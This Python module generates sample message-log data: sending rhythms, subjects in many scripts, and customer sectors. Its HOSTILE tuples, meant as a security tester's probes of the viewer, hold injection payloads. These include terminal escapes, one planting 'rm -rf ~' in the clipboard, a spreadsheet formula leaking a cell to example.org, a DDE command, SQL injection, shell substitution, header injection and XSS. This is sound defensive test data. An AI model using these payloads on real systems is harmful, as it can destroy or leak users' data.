"""What the sample's customers send: subjects, over which channel, to how many, and when."""

# Look-alike letters are the point of subjects in many scripts.
# ruff: noqa: RUF001

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from msglog_tui.types import Channel

if TYPE_CHECKING:
    from datetime import date


class Rhythm(NamedTuple):
    """When a kind of mailing goes out.

    Attributes:
        weekdays: Weights of Monday to Sunday.
        month_end: Factor for the days on which people are paid and billed: the 25th to the 1st.
        season: Factor for November and December, tripled around Black Friday.
        hours: Local hours, each as likely; name an hour twice to make it twice as likely.
        on_the_quarter: Whether people schedule it, so that it starts at a full quarter of an hour.
    """

    weekdays: tuple[float, float, float, float, float, float, float]
    month_end: float
    season: float
    hours: tuple[int, ...]
    on_the_quarter: bool = True

    def weight(self, day: date) -> float:
        """How likely this day is, compared with others."""
        weight = self.weekdays[day.weekday()]
        if day.day >= 25 or day.day == 1:
            weight *= self.month_end
        if day.month >= 11:
            weight *= self.season
        if day.month == 11 and 23 <= day.day <= 29 and self.season > 1:
            weight *= 3
        return weight


class Mailing(NamedTuple):
    """A kind of mailing.

    Attributes:
        reach: Lowest and highest share of the customer's audience; nobody's share is less than one person.
        subjects: What it says; `{month}`, `{year}`, `{percent}`, `{number}` and `{time}` are filled in.  For
            an SMS this is its whole text.
        local_subjects: More of them, in the languages and for the holidays of South Africa, sent only there.
        automatic: Sent by a program, one recipient at a time, to no list.
        in_turn: Whether each subject has its turn, one a day back from yesterday, instead of by chance.
    """

    channel: Channel
    rhythm: Rhythm
    reach: tuple[float, float]
    subjects: tuple[str, ...]
    local_subjects: tuple[str, ...] = ()
    automatic: bool = False
    in_turn: bool = False


_DAYTIME = Rhythm(
    (1.1, 1.2, 1.2, 1.1, 0.9, 0.2, 0.08),
    1.2,
    1.1,
    (8, 9, 9, 10, 10, 11, 13, 14, 15, 16),
    on_the_quarter=False,
)
_MORNING = Rhythm((0.5, 1.5, 1.0, 1.5, 0.7, 0.15, 0.1), 1.0, 1.2, (7, 8, 9, 9, 9, 10, 10, 11))
_SELLING = Rhythm((0.6, 0.8, 0.9, 1.2, 1.6, 0.9, 0.4), 2.2, 2.5, (8, 9, 10, 12, 15, 17, 18))
_BILLING = Rhythm((1.0, 1.0, 1.0, 1.0, 1.0, 0.3, 0.1), 9.0, 1.0, (6, 7, 8, 9, 14))
_ALL_DAY = Rhythm(
    (1.0, 1.0, 1.0, 1.1, 1.2, 0.8, 0.5),
    1.5,
    1.3,
    (*range(24), *range(7, 23), *range(8, 20)),
    on_the_quarter=False,
)

_PIN = Mailing(
    Channel.SMS,
    _ALL_DAY,
    (0.0, 0.0),
    (
        "Your one-time PIN",
        "Your one-time PIN",
        "Your one-time PIN",
        "New device: confirm with your PIN",
    ),
    automatic=True,
    local_subjects=(
        "Jou eenmalige PIN",
        "Iphinikhodi yakho yesikhathi esisodwa",
    ),
)
_DELIVERY = Mailing(
    Channel.SMS,
    _DAYTIME,
    (0.0001, 0.002),
    (
        "Your parcel is on its way",
        "Out for delivery today between {time} and 18:00",
        "Your order {number} is ready for collection",
    ),
    automatic=True,
    local_subjects=(
        "Jou bestelling {number} is gereed vir afhaal",
        "I-oda lakho lisendleleni",
    ),
)
_SALE = Mailing(
    Channel.EMAIL,
    _SELLING,
    (0.35, 0.98),
    (
        "Spring sale is here",
        "{percent}% off everything, this weekend only",
        "Black Friday comes early",
        "Last chance: {percent}% off ends tonight",
        "Back in stock: what you asked for",
        "Payday treats inside 🎁",
        "Thank you for shopping with us 💙",
        "Your {month} vouchers",
    ),
    local_subjects=(
        "Winter warmers from R{percent}9",
        "Groot uitverkoping: tot {percent}% af",
        "Isaphulelo esikhulu salo mpelasonto",
        "Heritage Day specials 🇿🇦",
    ),
)
_SALE_SMS = Mailing(
    Channel.SMS,
    _SELLING,
    (0.1, 0.6),
    (
        "{percent}% OFF TODAY! Show this SMS in store. Reply STOP to opt out",
        "Only until Sunday: buy one, get one free. Ts & Cs apply. Reply STOP to opt out",
        "Payday special: {percent}% off with code PAY{number}. Reply STOP to opt out",
        (
            "Dear customer, our stores open at {time} on the public holiday. Parking is free, the first "
            "hundred customers get a gift bag, and loyalty points count double until we close. "
            "Reply STOP to opt out"
        ),
    ),
    local_subjects=("Slegs hierdie naweek: {percent}% af! Antwoord STOP om te kanselleer",),
)
_NEWSLETTER = Mailing(
    Channel.EMAIL,
    _MORNING,
    (0.7, 1.0),
    (
        "Our {month} newsletter",
        "News from us, {month} {year}",
        "What is new this week",
        "Five things to know this month",
        "Meet the team: {month} edition",
        "You asked, we answered",
    ),
    local_subjects=("Nuusbrief: {month} {year}",),
)
_STATEMENT = Mailing(
    Channel.EMAIL,
    _BILLING,
    (0.2, 0.95),
    (
        "Your statement for {month} {year}",
        "Your {month} statement is ready",
        "Tax certificate {year}",
        "Debit order confirmation",
    ),
    local_subjects=(
        "Jou staat vir {month} {year}",
        "Isitatimende sakho sika-{month}",
    ),
)
_OVERDUE = Mailing(
    Channel.SMS,
    _BILLING,
    (0.01, 0.12),
    (
        "Your payment is due. Ref {number}",
        "Reminder: your debit order runs tomorrow",
        "We could not collect your premium. Please call us before {time}. Ref {number}",
    ),
    local_subjects=(
        "Jou paaiement is agterstallig. Verw {number}",
        "Inkokhelo yakho isisele. Sicela usithinte",
    ),
)
_POLICY = Mailing(
    Channel.EMAIL,
    _DAYTIME,
    (0.001, 0.08),
    (
        "Your policy documents",
        "Your claim {number} was approved",
        "We need one more document for claim {number}",
        "Changes to your cover from 1 {month}",
        "Welcome aboard: first steps",
    ),
)
_OUTAGE = Mailing(
    Channel.SMS,
    _ALL_DAY,
    (0.002, 0.2),
    (
        "Planned work in your street from {time}",
        "Service is back. Thank you for your patience",
        "Engineer visit booked for {time}. Reply YES to confirm",
    ),
)
_DELAYS = Mailing(
    Channel.SMS,
    _ALL_DAY,
    (0.002, 0.2),
    (
        "Delays on the river line after {time}",
        "Good service on all lines again",
        "No trams to the quay on Sunday. Replacement buses from {time}",
    ),
)
_APPOINTMENT = Mailing(
    Channel.SMS,
    _DAYTIME,
    (0.004, 0.05),
    (
        "Reminder: your appointment is tomorrow at {time}",
        "Your check-up is due in {month}",
        "Clinic closed on Monday. We rebook everyone by phone",
        "Flu jabs: walk in from {time}",
        "Your results are ready – please ring us after {time}",
    ),
)
_CLINIC_NEWS = Mailing(
    Channel.EMAIL,
    _MORNING,
    (0.5, 1.0),
    (
        "Opening hours in {month}",
        "How did we do? Two questions",
        "Your repeat prescription, made easier",
        # A line separator inside a line of JSON: a reader that splits lines too eagerly cuts it in two.
        "Clinic hours\u2028Monday to Friday {time} to 18:00",
        "Carers’ café, {month}",
    ),
)
_GETAWAY = Mailing(
    Channel.EMAIL,
    _SELLING,
    (0.4, 1.0),
    (
        "Whales, wine and wild coast 🐋",
        "{percent}% off mid-week stays",
        "Your booking {number}",
        "Kom kuier: naweekspesiale vir {month}",
        "Sunrise safari, two seats left 🦁",
        "Pack your bags ✈️ {month} escapes",
    ),
)
_FARM_SHOP = Mailing(
    Channel.SMS,
    _MORNING,
    (0.5, 1.0),
    (
        "Vars brood en beskuit môre vanaf {time}",
        "Winkel toe op Maandag. Geniet die langnaweek!",
        "Skaapvleis teen R{percent}9 – bestel voor Vrydag",
        "Reën in die Karoo! 🌧️ Modderpad: ry versigtig",
    ),
)

_MANY_SCRIPTS = (
    "Die lente is hier – môre begin ’n nuwe seisoen",
    "Sanibonani! Izindaba zethu zenyanga",
    "عرض الربيع: خصم ٢٠٪ على كل شيء",
    "חדשות החודש: מבצע אביב לכל הלקוחות",
    "春季大促：全场八折，仅限今天",
    "春のセール：本日限り全品２０％オフ",
    "वसंत की सेल: आज ही सब पर २०% की छूट",
    "ลดราคาฤดูใบไม้ผลิ วันนี้วันเดียวเท่านั้น",
    "봄맞이 세일: 오늘 하루만 20% 할인",
    "Весенняя распродажа: скидка 20 % только сегодня",
    "Ανοιξιάτικες εκπτώσεις: μόνο σήμερα",
    "የጸደይ ቅናሽ፦ ዛሬ ብቻ",
    "வசந்த விற்பனை: இன்று மட்டும்",
    "Xuân đã về: giảm giá 20% chỉ hôm nay",
    "Wiosenna wyprzedaż – zażółć gęślą jaźń",
    "İlkbahar indirimi: yalnızca bugün, ışıltılı fırsatlar",
    "Frühjahrsgrüße aus der Straße der Möbelhäuser",
    "Élèves, à vos agendas : où êtes-vous le 1ᵉʳ mai ?",
    "Año nuevo, ¡piñatas para todos!",
    "A family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "A hero \U0001f469\U0001f3fe\u200d\U0001f692 and two flags \U0001f1ff\U0001f1e6\U0001f1ec\U0001f1e7",
    "Scotland \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "Keycaps 1\ufe0f\u20e3 and a rainbow \U0001f3f3\ufe0f\u200d\U0001f308",
    "Mixed: Order 42 – طلبك رقم ٤٢ جاهز – thank you",
    "ｆｕｌｌ　ｗｉｄｔｈ　ｌｅｔｔｅｒｓ and ﬁne ﬂigatures",
    "e\u0301 composed and é precomposed look the same",
    "This is what happens when somebody pastes the whole letter into the subject line."
    + " And on it goes." * 60,
    "Donaudampfschifffahrtsgesellschaftskapitän" * 10,
    "",
)
_TRANSLATIONS = Mailing(Channel.EMAIL, _MORNING, (0.5, 1.0), _MANY_SCRIPTS, in_turn=True)

HOSTILE = (
    "\x1b]52;c;cm0gLXJmIH4=\x07Invoice attached",
    "\x1b]0;root@production\x07Account notice",
    "\x1b[2J\x1b[HYour screen is gone",
    "\x1bP+q544e\x1b\\A question to the terminal",
    "\x9b31mC1 red alert\x9b0m and \x9d0;title\x9c",
    "Bell \x07 backspace \x08\x08\x08 tab\there, delete \x7f",
    "Annual report \u202egpj.exe",
    "An isolate never closed \u2067 and a mark \u200f",
    "Open [/now] and save",
    "[bold]Only today[/bold] [link=https://example.org]here[/link] [@click=app.quit]Unsubscribe[/]",
    '=HYPERLINK("https://example.org/?leak="&A1,"Click here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+27 82 555 0100 rang",
    "You have won\r\nBcc: everybody@example.org",
    "Next line \x85 line separator \u2028 paragraph separator \u2029 end",
    "".join(letter + "\u0300\u0316\u0335\u0489\u0353\u036f" * 3 for letter in "Zalgo comes"),
    "Zero\u200bwidth\u2060 soft\u00adhyphen \ufeffmark \U000e0041 tag",
    "'; DROP TABLE message; --",
    "%s %d {subject} ${HOME} $(reboot) `id` <script>alert(1)</script>",
)
"""Subjects that try to do something to whoever shows or exports them; a security tester sends them."""

HOSTILE_LISTS = (
    "[red]Staff[/red]",
    "\x1b[31mSuspects\x1b[0m",
    "=1+1",
    "Pairs; halves",
    "\u202eesrever",
    "a;;b;",
)
"""Names of the security tester's lists, the last with the separator of lists in awkward places."""

_PROBES = Mailing(Channel.EMAIL, _DAYTIME, (0.1, 1.0), HOSTILE, in_turn=True)

SECTORS: dict[str, tuple[tuple[Mailing, float], ...]] = {
    "web shop": (
        (_PIN, 8),
        (_DELIVERY, 4),
        (_SALE, 3),
        (_SALE_SMS, 1.5),
        (_NEWSLETTER, 1),
        (_STATEMENT, 0.5),
    ),
    "shop": ((_SALE, 4), (_SALE_SMS, 2), (_NEWSLETTER, 2), (_DELIVERY, 2)),
    "bank": ((_PIN, 12), (_STATEMENT, 3), (_OVERDUE, 3), (_NEWSLETTER, 1)),
    "cover": ((_POLICY, 4), (_STATEMENT, 2), (_OVERDUE, 3), (_NEWSLETTER, 1)),
    "supplier": ((_OUTAGE, 5), (_STATEMENT, 2), (_NEWSLETTER, 1.5)),
    "transit": ((_DELAYS, 5), (_NEWSLETTER, 1.5)),
    "clinic": ((_APPOINTMENT, 5), (_CLINIC_NEWS, 2)),
    "travel": ((_GETAWAY, 4), (_NEWSLETTER, 1), (_SALE_SMS, 0.7)),
    "farm shop": ((_FARM_SHOP, 1),),
    "translator": ((_TRANSLATIONS, 1),),
    "security tester": ((_PROBES, 1),),
}
"""Kinds of customers: the mailings of each with their weights."""

LISTS: dict[str, tuple[str, ...]] = {
    "web shop": ("Newsletter", "VIP", "Loyalty; gold", "App users", "💙 Fans", "Nuusbrief"),
    "shop": ("Newsletter", "VIP", "Loyalty; gold", "Locals", "Birthday 🎂"),
    "bank": ("All clients", "Private clients", "Students", "Arrears; 30 days", "Arrears; 60 days"),
    "cover": ("Policyholders", "Brokers", "New this month", "Polishouers"),
    "supplier": ("All households", "Postcodes NE1; NE2", "Business", "Priority services"),
    "transit": ("All passengers", "Season tickets", "River line; weekdays", "Step-free travel"),
    "clinic": ("Patients", "Over 65", "Parents & carers", "Friends 🩺"),
    "travel": ("Newsletter", "Past guests", "Agents; overseas", "Vriende 🐘"),
    "farm shop": ("Bure", "Gereeld; plaas"),
    "translator": ("العملاء", "客户", "Kunden", "👩‍💻 Freelancers", "Editors; proof"),
    "security tester": HOSTILE_LISTS,
}
"""Names of lists by kind of customer."""
